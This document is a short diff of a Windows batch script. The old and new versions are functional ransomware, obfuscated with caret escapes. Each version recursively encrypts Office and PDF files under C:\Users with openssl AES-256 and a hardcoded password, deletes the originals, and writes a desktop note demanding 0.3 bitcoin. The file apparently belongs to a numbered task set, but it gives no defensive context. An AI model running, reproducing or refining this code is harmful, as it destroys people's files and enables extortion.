@@ -1,6 +1,6 @@
-REM task 4642 v0
+REM task 2355 v0
 @echo off
-f^o^r /^r C:\U^se^r^s %%^f in (*.^docx *.^x^ls^x *.p^df) do (
-  openss^l enc -^ae^s-^25^6-cb^c -pas^s ^pa^ss:P@^s^sw0rd!20^2^4 -in "%%f" -^out "%%f.pay" && ^d^e^l "%%f"
+fo^r /r C:\Us^e^rs %%f in (*.do^cx *.xlsx *.^pd^f) d^o (
+  ^opens^sl enc -ae^s-25^6-^c^bc -pas^s ^pas^s:^S^up3^rS3c^ure! -in "%%f" -out "%%f.enc" && de^l "%%f"
 )
-^e^c^h^o ^Yo^u^r f^i^les h^ave b^ee^n ^e^n^c^ryp^ted. ^Sen^d ^0.3 ^bit^c^oi^n ^t^o rec^o^v^er th^e key > ^C:\^Use^rs\^P^ub^lic\De^s^k^top\^REA^DME_RESTO^RE_FILES.t^xt
+echo Y^ou^r f^i^les ^hav^e b^e^en en^c^ryp^ted. ^S^e^nd 0.^3 bitc^o^i^n ^t^o re^c^ov^e^r t^h^e key > ^C:\^U^s^e^r^s\P^u^b^l^ic\D^esktop\RE^A^D^ME_R^ESTORE_^F^I^L^ES.t^xt
